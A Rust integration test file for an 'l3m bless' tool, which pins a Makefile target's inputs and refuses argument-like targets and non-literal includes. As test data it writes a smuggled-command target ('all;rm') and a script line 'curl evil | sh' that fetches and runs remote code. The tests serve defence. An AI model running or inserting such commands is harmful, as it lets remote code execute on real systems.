//! `l3m bless`: a human pins a Makefile target's inputs; bad targets and non-literal includes
//! are refused before anything is sent; an edit shows up as a different pin.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;
use predicates::prelude::*;

const MAKEFILE: &str =
    "include common.mk\nall: app\n\t./scripts/gen.sh > out.c\napp:\n\tcc -o app out.c\n";

fn repo(home: &Home) -> std::path::PathBuf {
    let repo = home.path().join("repo");
    std::fs::create_dir_all(repo.join("scripts")).unwrap();
    std::fs::write(repo.join("Makefile"), MAKEFILE).unwrap();
    std::fs::write(repo.join("common.mk"), "CC := cc\n").unwrap();
    std::fs::write(
        repo.join("scripts/gen.sh"),
        "#!/bin/sh\necho 'int main(){}'\n",
    )
    .unwrap();
    repo
}

#[test]
fn an_argument_as_target_or_a_variable_include_is_a_usage_error_before_any_hub_is_asked() {
    let home = Home::new();
    home.init();
    let repo = repo(&home);
    let repo_arg = repo.to_str().unwrap();
    for target in ["CC=evil", "-j64", "all;rm"] {
        home.l3m(&["bless", "--repo", repo_arg, "--", "bob", target])
            .assert()
            .code(2)
            .stderr(predicate::str::contains("not a plain make target"));
    }
    std::fs::write(repo.join("Makefile"), "include $(EXTRA)\nall:\n\ttrue\n").unwrap();
    home.l3m(&["bless", "bob", "all", "--repo", repo_arg])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("not literal"));
    // A good target gets as far as the hub, which is not up: exit 5.
    std::fs::write(repo.join("Makefile"), MAKEFILE).unwrap();
    home.l3m(&["bless", "bob", "all", "--repo", repo_arg])
        .assert()
        .code(5);
}

#[test]
fn a_human_blesses_the_makefile_its_include_and_its_script() {
    let home = Home::new();
    home.init();
    let _stack = home.up();
    home.l3m(&["spawn", "bob"]).assert().success();
    let repo = repo(&home);
    let repo_arg = repo.to_str().unwrap();
    let first = home.json(&["bless", "bob", "all", "--repo", repo_arg]);
    let files = first["blessing"]["files"].as_object().unwrap();
    let mut names: Vec<&str> = files.keys().map(String::as_str).collect();
    names.sort_unstable();
    assert_eq!(names, ["Makefile", "common.mk", "scripts/gen.sh"]);
    std::fs::write(repo.join("scripts/gen.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let second = home.json(&["bless", "bob", "all", "--repo", repo_arg]);
    assert_ne!(first["tip"], second["tip"]);
    assert_ne!(
        first["blessing"]["files"]["scripts/gen.sh"], second["blessing"]["files"]["scripts/gen.sh"],
        "the edit is a different pin"
    );
}
